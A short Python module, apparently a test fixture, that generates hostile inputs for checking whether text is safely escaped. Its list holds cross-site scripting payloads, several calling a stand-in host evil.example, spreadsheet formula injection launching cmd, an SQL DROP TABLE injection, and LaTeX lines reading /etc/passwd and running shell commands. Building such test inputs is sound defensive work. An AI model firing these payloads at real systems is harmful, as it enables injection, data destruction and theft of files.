"""Strings that would run if somewhere they were not taken as text."""

from __future__ import annotations

RUN = ("window.hit=1", "alert(1)", "fetch('//evil.example')", "document.title='hit'")
SHAPES = (
    "<script>{run}</script>",
    '<img src=x onerror="{run}">',
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    '"><script>{run}</script>',
    "'><img src=x onerror={run}>",
    '" onfocus="{run}" autofocus x="',
    "' onmouseover='{run}' style='position:fixed;inset:0' ",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</style><script>{run}</script>",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<a href=javascript:{run} autofocus>x</a>",
    "<details open ontoggle={run}>",
    "<body onload={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<style>@import 'http://evil.example/x.css';</style>{run}",
    "<link rel=stylesheet href=http://evil.example/x.css>{run}",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=http://evil.example/>{run}",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<form action=http://evil.example><button autofocus>{run}</button></form>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{% raw %}}<script>{run}</script>{{% endraw %}}",
    "${{{run}}}",
    "<%= {run} %>",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#x3C;script&#x3E;{run}&#x3C;/script&#x3E;",
    "%3Cscript%3E{run}%3C/script%3E",
    "＜script＞{run}＜/script＞",
    "java\tscript:{run}",
    "<scr\x00ipt>{run}</scr\x00ipt>",
    "=cmd|'/C calc'!A0 {run}",
    "+1+cmd|'/C calc'!A0 {run}",
    "-2+3+cmd|'/C calc'!A0 {run}",
    "@SUM(1+1)*cmd|'/C calc'!A0 {run}",
    '\t=HYPERLINK("http://evil.example?{run}")',
    "%0A=1+1;{run}",
    "'; DROP TABLE answers; -- {run}",
    "\\input{{/etc/passwd}} \\write18{{{run}}}",
    "$\\immediate\\write18{{ls}}$ % {run}",
    "`![x](javascript:{run})` [x](javascript:{run})",
    "‮<script>{run}</script>‬ \u200b\ufeff",
)


def hostile(count: int) -> list[str]:
    """So many of them; a few are of every sort."""
    made = [
        shape.format(run=RUN[(number + turn) % len(RUN)])
        for turn in range(len(RUN))
        for number, shape in enumerate(SHAPES)
    ]
    assert len(made) >= count, len(made)
    step = max(1, len(SHAPES) // count)
    return made[:: step if count < len(SHAPES) else 1][:count]
